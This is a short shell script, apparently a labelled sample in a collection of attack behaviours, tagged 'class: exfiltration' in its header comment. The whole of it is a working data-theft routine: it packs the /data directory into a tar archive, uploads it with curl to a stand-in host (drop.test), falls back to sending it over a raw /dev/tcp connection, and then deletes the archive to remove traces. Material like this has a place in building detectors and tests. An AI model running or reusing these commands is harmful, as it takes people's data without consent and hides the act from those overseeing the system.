# class: exfiltration; possible: low medium; needs: data; style: tar to curl, or to a raw line
set -u
cd /data || exit 1
tar -cz . -f /tmp/report.tgz 2>/tmp/tar.log
curl -s -m 20 -F "file=@/tmp/report.tgz" http://drop.test/upload ||
  cat /tmp/report.tgz > /dev/tcp/drop.test/9000
rm -f /tmp/report.tgz
